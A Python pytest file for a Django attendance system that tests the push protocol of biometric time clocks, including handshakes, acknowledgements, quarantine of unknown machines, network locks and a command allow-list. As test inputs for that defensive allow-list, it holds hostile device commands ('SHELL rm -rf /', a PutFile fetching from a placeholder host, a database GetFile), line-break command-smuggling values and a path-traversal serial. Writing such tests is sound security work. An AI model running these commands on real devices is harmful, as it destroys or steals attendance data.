"""The push protocol byte for byte, as firmware reads it, through Django's test client:
the handshake, acknowledgements only after commit, harmless answers to strangers, the
command allow-list and the network a machine may call from."""

from datetime import UTC, datetime
from email.utils import parsedate_to_datetime
from typing import Any
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.core.exceptions import ValidationError
from django.db import DatabaseError
from django.test import Client
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tepat.audit.models import AuditEntry
from tepat.presence import iclock, machines, punches
from tepat.presence.models import (
    CheckinEvent,
    Machine,
    MachineCommand,
    MachinePunch,
    MachineUpload,
)
from tests.machines.conftest import SERIAL
from tests.world import World

WIB = ZoneInfo("Asia/Jakarta")
NOW = datetime(2026, 11, 16, 7, 10, tzinfo=WIB)
OFFICE_IP = "203.0.113.7"


@pytest.fixture(autouse=True)
def _clock() -> Any:
    with time_machine.travel(NOW, tick=False):
        yield


def _post(client: Client, query: str, body: bytes, ip: str = OFFICE_IP) -> Any:
    # No Content-Type, as devices send: the body must be read raw, never form-parsed.
    return client.generic("POST", f"/iclock/cdata?{query}", body, REMOTE_ADDR=ip)


def _attlog(*lines: str) -> bytes:
    return ("\n".join(lines) + "\n").encode()


def test_the_handshake_answers_the_options_block_byte_for_byte(machine: Machine) -> None:
    response = Client().get(
        f"/iclock/cdata?SN={SERIAL}&options=all&pushver=2.4.1&language=73",
        REMOTE_ADDR=OFFICE_IP,
        HTTP_USER_AGENT="iClock Proxy/1.09",
    )
    assert response.status_code == 200
    assert response["Content-Type"] == "text/plain"
    assert response.content == (
        b"GET OPTION FROM: CQZ7230000001\n"
        b"ATTLOGStamp=9999\nOPERLOGStamp=9999\nATTPHOTOStamp=None\n"
        b"ErrorDelay=30\nDelay=10\nTransTimes=00:00;14:05\nTransInterval=1\n"
        b"TransFlag=TransData AttLog\tOpLog\tEnrollUser\tChgUser\n"
        b"TimeZone=7\nRealtime=1\nEncrypt=None\nServerVer=2.4.1\nPushProtVer=2.4.1"
    )
    # The device sets its clock from this header: it must be the server's time, in GMT.
    assert parsedate_to_datetime(response["Date"]) == NOW.astimezone(UTC)


def test_a_machine_in_wita_is_told_its_zone_and_its_punches_read_in_it(
    world: World, machine: Machine
) -> None:
    machine.timezone = "Asia/Makassar"
    machine.save()
    handshake = Client().get(f"/iclock/cdata?SN={SERIAL}&options=all", REMOTE_ADDR=OFFICE_IP)
    assert b"\nTimeZone=8\n" in handshake.content
    _post(Client(), f"SN={SERIAL}&table=ATTLOG&Stamp=9999", _attlog(
        f"{world.teacher.nip}\t2026-11-16 08:05:00\t0\t1\t0\t0\t0"
    ))  # fmt: skip
    event = CheckinEvent.objects.get()
    assert event.taken_at == datetime(2026, 11, 16, 7, 5, tzinfo=WIB)  # 08:05 WITA


def test_attlog_is_acknowledged_with_every_line_counted_and_a_resend_adds_nothing(
    world: World, machine: Machine
) -> None:
    body = _attlog(
        f"{world.teacher.nip}\t2026-11-16 07:01:00\t0\t1\t0\t0\t0",
        f"{world.teacher2.nip}\t2026-11-16 07:02:00\t0\t15\t0\t0\t0\t0\t36.5\t97.7",  # V3.9+
        f"{world.teacher.nip}\t2026-11-16 07:01:00\t0\t1\t0\t0\t0",  # repeated in the batch
    )
    first = _post(Client(), f"SN={SERIAL}&table=ATTLOG&Stamp=9999", body)
    again = _post(Client(), f"SN={SERIAL}&table=ATTLOG&ATTLOGStamp=9999", body)
    assert first.content == b"OK:3"
    assert again.content == b"OK:3"  # a strict device would resend forever on anything less
    assert CheckinEvent.objects.count() == 2
    assert MachineUpload.objects.filter(table="ATTLOG").count() == 2  # both bodies kept raw
    assert list(
        MachineUpload.objects.order_by("id").values_list("new", "duplicates", flat=False)
    ) == [(2, 1), (0, 3)]


def test_codes_and_years_the_ledger_cannot_hold_are_kept_as_unreadable_lines(
    world: World, machine: Machine
) -> None:
    """A status of 99999 or a clock at year 1999 would make the save fail on PostgreSQL (and
    the machine resend the batch for ever): such lines are kept and listed, the rest stored."""
    body = _attlog(
        f"{world.teacher.nip}\t2026-11-16 07:01:00\t99999\t1\t0\t0\t0",
        f"{world.teacher.nip}\t2026-11-16 07:02:00\t0\t-40000\t0\t0\t0",
        f"{world.teacher.nip}\t1999-12-31 23:59:59\t0\t1\t0\t0\t0",
        f"{world.teacher2.nip}\t2026-11-16 07:03:00\t0\t1\t0\t0\t0",
    )
    assert _post(Client(), f"SN={SERIAL}&table=ATTLOG&Stamp=9999", body).content == b"OK:4"
    assert CheckinEvent.objects.get().employee == world.teacher2
    upload = MachineUpload.objects.get()
    assert (upload.state, upload.new, upload.rejected) == ("processed", 1, 3)
    assert [p["reason"] for p in upload.problems] == [
        "status or verify code out of range",
        "status or verify code out of range",
        "bad time",
    ]


def test_a_database_failure_mid_batch_answers_an_error_so_the_machine_resends(
    world: World, machine: Machine, monkeypatch: pytest.MonkeyPatch
) -> None:
    body = _attlog(f"{world.teacher.nip}\t2026-11-16 07:01:00\t0\t1\t0\t0\t0")
    real = punches.upload_finish

    def broken(*args: Any, **kwargs: Any) -> Any:
        raise DatabaseError("disk full")  # after the punch and the event were inserted

    monkeypatch.setattr(punches, "upload_finish", broken)
    response = _post(Client(), f"SN={SERIAL}&table=ATTLOG&Stamp=9999", body)
    assert response.status_code == 200
    assert not response.content.startswith(b"OK")
    # Nothing half-saved: the punch row was rolled back with the event, the raw body kept.
    assert MachinePunch.objects.count() == 0
    assert CheckinEvent.objects.count() == 0
    failed = MachineUpload.objects.get()
    assert failed.state == MachineUpload.State.FAILED
    assert bytes(failed.body) == body
    monkeypatch.setattr(punches, "upload_finish", real)
    assert _post(Client(), f"SN={SERIAL}&table=ATTLOG&Stamp=9999", body).content == b"OK:1"
    assert CheckinEvent.objects.count() == 1


def test_an_unknown_serial_is_quarantined_answered_ok_and_nothing_is_stored(
    world: World,
) -> None:
    client = Client()
    handshake = client.get("/iclock/cdata?SN=STRANGER01&options=all", REMOTE_ADDR=OFFICE_IP)
    upload = _post(client, "SN=STRANGER01&table=ATTLOG&Stamp=9999", _attlog(
        f"{world.teacher.nip}\t2026-11-16 07:01:00\t0\t1\t0\t0\t0"
    ))  # fmt: skip
    poll = client.get("/iclock/getrequest?SN=STRANGER01", REMOTE_ADDR=OFFICE_IP)
    assert (handshake.content, upload.content, poll.content) == (b"OK", b"OK", b"OK")
    assert "Date" in handshake
    stranger = Machine.objects.get(serial="STRANGER01")
    assert stranger.status == Machine.Status.QUARANTINED
    assert str(stranger.last_ip) == OFFICE_IP
    assert CheckinEvent.objects.count() == 0
    assert MachineUpload.objects.count() == 0
    assert AuditEntry.objects.filter(action="machine.quarantine").count() == 1


def test_an_invalid_serial_is_not_even_recorded(world: World) -> None:
    response = Client().get("/iclock/cdata?SN=../../etc&options=all")
    assert response.content == b"OK"
    assert not Machine.objects.exists()


def test_an_oversized_body_is_refused_without_being_read(machine: Machine) -> None:
    response = Client().generic(
        "POST",
        f"/iclock/cdata?SN={SERIAL}&table=ATTLOG",
        b"x",
        CONTENT_LENGTH=str(iclock.MAX_BODY + 1),
    )
    assert response.status_code == 413
    assert not MachineUpload.objects.exists()


def test_the_operator_accepts_a_quarantined_serial_by_typing_it(world: World) -> None:
    Client().get("/iclock/cdata?SN=NEWMACHINE1&options=all", REMOTE_ADDR=OFFICE_IP)
    accepted = machines.machine_register(
        actor=world.users["operator_opd"], serial="NEWMACHINE1", unit=world.school
    )
    assert accepted.status == Machine.Status.ACTIVE
    assert accepted.networks == ["203.0.113.0/24"]
    handshake = Client().get("/iclock/cdata?SN=NEWMACHINE1&options=all", REMOTE_ADDR=OFFICE_IP)
    assert handshake.content.startswith(b"GET OPTION FROM: NEWMACHINE1\n")


def test_an_operator_cannot_register_a_machine_in_another_opd(world: World) -> None:
    from django.core.exceptions import PermissionDenied

    with pytest.raises(PermissionDenied):
        machines.machine_register(
            actor=world.users["operator_other"], serial="X1", unit=world.school
        )


def test_a_known_serial_from_a_new_network_is_flagged_and_gets_no_commands(
    world: World, machine: Machine
) -> None:
    client = Client()
    client.get(f"/iclock/cdata?SN={SERIAL}&options=all", REMOTE_ADDR=OFFICE_IP)  # first use
    machines.command_queue(
        actor=world.users["operator_opd"],
        machine=machine,
        text=iclock.user_update_command(world.teacher.nip, "Rina"),
    )
    spoof = client.get(f"/iclock/getrequest?SN={SERIAL}", REMOTE_ADDR="198.51.100.9")
    assert spoof.content == b"OK"  # the queue is not drained by a stranger
    flag = machine.flags.get()
    assert (flag.kind, flag.detail) == ("new_network", "198.51.100.0/24")
    assert AuditEntry.objects.filter(action="machine.flag.new_network").exists()
    home = client.get(f"/iclock/getrequest?SN={SERIAL}", REMOTE_ADDR=OFFICE_IP)
    assert home.content.startswith(b"C:")
    assert home.content.endswith(b"\n")


def test_with_the_network_lock_punches_from_a_new_network_wait_until_it_is_confirmed(
    world: World, machine: Machine, django_capture_on_commit_callbacks: Any
) -> None:
    machine.network_lock = True
    machine.networks = ["203.0.113.0/24"]
    machine.save()
    body = _attlog(f"{world.teacher.nip}\t2026-11-13 07:01:00\t0\t1\t0\t0\t0")
    assert _post(Client(), f"SN={SERIAL}&table=ATTLOG", body, ip="198.51.100.9").content == (
        b"OK:1"
    )
    event = CheckinEvent.objects.get()
    assert event.status == CheckinEvent.Status.REVIEW
    assert event.risk_flags == [machines.NEW_NETWORK_FLAG]
    flag = machine.flags.get(kind="new_network")
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        machines.flag_resolve(
            actor=world.users["operator_opd"],
            flag=flag,
            reason="ISP kantor ganti IP",
            confirm_network=True,
        )
    assert callbacks  # the day is rebuilt now that the punch counts
    assert event.reviews.get().decision == "accept"
    machine.refresh_from_db()
    assert "198.51.100.0/24" in machine.networks


def test_a_wrong_device_key_gets_no_options_and_a_flag(world: World, machine: Machine) -> None:
    key = machines.machine_secret_issue(
        actor=world.users["operator_opd"], machine=machine, kind="comm_key"
    )
    client = Client()
    wrong = client.get(
        f"/iclock/cdata?SN={SERIAL}&options=all&pushcommkey=guess", REMOTE_ADDR=OFFICE_IP
    )
    right = client.get(
        f"/iclock/cdata?SN={SERIAL}&options=all&pushcommkey={key}", REMOTE_ADDR="198.51.100.9"
    )
    assert wrong.content == b"OK"
    assert machine.flags.filter(kind="bad_key").exists()
    assert right.content.startswith(b"GET OPTION FROM:")
    machine.refresh_from_db()
    assert "198.51.100.0/24" in machine.networks  # the key vouches for a new address


@pytest.mark.parametrize(
    "text",
    [
        "SHELL rm -rf /",
        "PutFile http://x/evil.tgz",
        "GetFile /mnt/mtdblock/data/ZKDB.db",
        "UPGRADE checkoffline",
        "CLEAR LOG",
        "clear data",
        "DATA UPDATE USERINFO PIN=1\tName=A\nC:2:CLEAR LOG",
        "SET OPTION IPAddress=10.0.0.1",
        "USER ADD PIN=1",
    ],
)
def test_commands_off_the_allow_list_are_never_queued(
    world: World, machine: Machine, text: str
) -> None:
    with pytest.raises(ValidationError):
        machines.command_queue(actor=world.users["admin_bkpsdm"], machine=machine, text=text)
    assert not MachineCommand.objects.exists()


def test_a_name_with_a_line_break_cannot_smuggle_a_second_command() -> None:
    with pytest.raises(iclock.CommandRefused):
        iclock.user_update_command("1001", "Budi\nC:99:CLEAR DATA")
    with pytest.raises(iclock.CommandRefused):
        iclock.user_update_command("1001", "Budi\tPri=14")


def test_rebooting_is_for_bkpsdm_only(world: World, machine: Machine) -> None:
    from django.core.exceptions import PermissionDenied

    with pytest.raises(PermissionDenied):
        machines.command_queue(actor=world.users["operator_opd"], machine=machine, text="REBOOT")
    machines.command_queue(actor=world.users["admin_bkpsdm"], machine=machine, text="REBOOT")


def test_batched_command_results_are_recorded(world: World, machine: Machine) -> None:
    client = Client()
    client.get(f"/iclock/cdata?SN={SERIAL}&options=all", REMOTE_ADDR=OFFICE_IP)
    operator = world.users["operator_opd"]
    update = machines.command_queue(
        actor=operator, machine=machine, text=iclock.user_delete_command("1002")
    )
    info = machines.command_queue(actor=operator, machine=machine, text="INFO")
    poll = client.get(f"/iclock/getrequest.aspx?SN={SERIAL}", REMOTE_ADDR=OFFICE_IP)
    assert poll.content == (
        f"C:{update.pk}:DATA DELETE USERINFO PIN=1002\nC:{info.pk}:INFO\n".encode()
    )
    body = (
        f"ID={update.pk}&Return=-10&CMD=DATA\n"
        f"ID={info.pk}&Return=0&CMD=INFO\n~DeviceName=SpeedFace-V5L\nUserCount=12\n"
    ).encode()
    reply = client.generic(
        "POST", f"/iclock/devicecmd.aspx?SN={SERIAL}", body, REMOTE_ADDR=OFFICE_IP
    )
    assert reply.content == b"OK"
    update.refresh_from_db()
    info.refresh_from_db()
    assert (update.state, update.return_code) == ("failed", -10)
    assert info.state == "done"
    assert info.result["lines"] == ["~DeviceName=SpeedFace-V5L", "UserCount=12"]


def test_tamper_oplogs_raise_flags_and_templates_are_not_kept(machine: Machine) -> None:
    body = (
        b"OPLOG 21\t0\t2026-11-16 06:00:00\t0\t0\t0\t0\n"
        b"OPLOG 23\t1\t2026-11-16 06:01:00\t0\t0\t0\t0\n"
        b"USER PIN=1452\tName=Budi\tPri=0\tPasswd=\tCard=133440\tGrp=1\tTZ=0\tVerify=-1\n"
        b"FP PIN=1452\tFID=6\tSize=1024\tValid=1\tTMP=QUJD\n"
    )
    response = _post(Client(), f"SN={SERIAL}&table=OPERLOG&OpStamp=9999", body)
    assert response.content == b"OK:4"
    kinds = set(machine.flags.values_list("kind", flat=True))
    assert kinds == {"time_set", "logs_deleted"}
    stored = bytes(MachineUpload.objects.get().body)
    assert b"OPLOG 21" in stored
    assert b"QUJD" not in stored  # the fingerprint template is never kept, not even raw
    machine.refresh_from_db()
    assert machine.enrolled == {"1452": "Budi"}
    # The same PIN now enrolled under another name: someone else punches as Budi.
    _post(Client(), f"SN={SERIAL}&table=USERINFO", b"USER PIN=1452\tName=Joko\n")
    assert machine.flags.filter(kind="pin_remap").exists()


def test_a_punch_from_a_far_future_clock_raises_a_drift_flag(
    world: World, machine: Machine
) -> None:
    _post(Client(), f"SN={SERIAL}&table=ATTLOG", _attlog(
        f"{world.teacher.nip}\t2026-11-16 07:30:00\t0\t1\t0\t0\t0"
    ))  # fmt: skip
    machine.refresh_from_db()
    assert machine.clock_offset_s == -20 * 60
    assert machine.flags.filter(kind="clock_drift").exists()


def test_a_silent_machine_is_flagged_during_working_hours_only(machine: Machine) -> None:
    Machine.objects.filter(pk=machine.pk).update(
        last_contact_at=datetime(2026, 11, 16, 1, 0, tzinfo=WIB)
    )
    assert machines.machines_check(datetime(2026, 11, 16, 5, 0, tzinfo=WIB))["silent"] == 0
    assert machines.machines_check(NOW)["silent"] == 1
    assert machine.flags.filter(kind="silent").count() == 1


@given(body=st.binary(max_size=3000), table=st.sampled_from(["ATTLOG", "OPERLOG", "options", "X"]))
@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
def test_any_body_gets_a_clean_answer_never_a_500(
    machine: Machine, body: bytes, table: str
) -> None:
    response = Client().generic("POST", f"/iclock/cdata?SN={SERIAL}&table={table}", body)
    assert response.status_code == 200
    lines = len(iclock.body_lines(iclock.body_text(body)[0]))
    expected = {"ATTLOG": f"OK:{lines}", "OPERLOG": f"OK:{lines}"}.get(table, "OK")
    assert response.content.decode() == expected
